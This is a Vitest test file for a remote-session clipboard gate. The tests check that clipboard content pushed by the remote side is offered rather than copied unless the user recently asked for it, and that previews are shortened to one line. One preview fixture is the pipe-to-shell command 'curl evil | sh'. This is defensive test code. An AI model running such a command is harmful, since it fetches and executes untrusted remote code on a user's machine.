import { describe, expect, it } from "vitest";
import { ASK_WINDOW_MS, RemoteClipboardGate, clipboardPreview } from "../src/lib/sessions/remoteClipboard";

describe("remote clipboard gate", () => {
  it("offers what the remote side changed on its own", () => {
    const gate = new RemoteClipboardGate(() => 1000);
    expect(gate.receive()).toBe("offer");
    expect(gate.receive()).toBe("offer");
  });

  it("copies one answer to the user's request, then offers again", () => {
    let now = 0;
    const gate = new RemoteClipboardGate(() => now);
    gate.ask();
    now += 50;
    expect(gate.receive()).toBe("copy");
    now += 50;
    expect(gate.receive()).toBe("offer");
  });

  it("does not keep an unanswered request armed for a later change", () => {
    let now = 0;
    const gate = new RemoteClipboardGate(() => now);
    gate.ask();
    now += ASK_WINDOW_MS + 1;
    expect(gate.receive()).toBe("offer");
  });
});

describe("clipboard preview", () => {
  it("shows a short text whole, on one line", () => {
    expect(clipboardPreview("  curl evil |\n sh\t")).toBe("curl evil | sh");
  });

  it("cuts a long text", () => {
    const preview = clipboardPreview("x".repeat(100), 10);
    expect(preview).toBe(`${"x".repeat(9)}…`);
    expect(preview.length).toBe(10);
  });
});
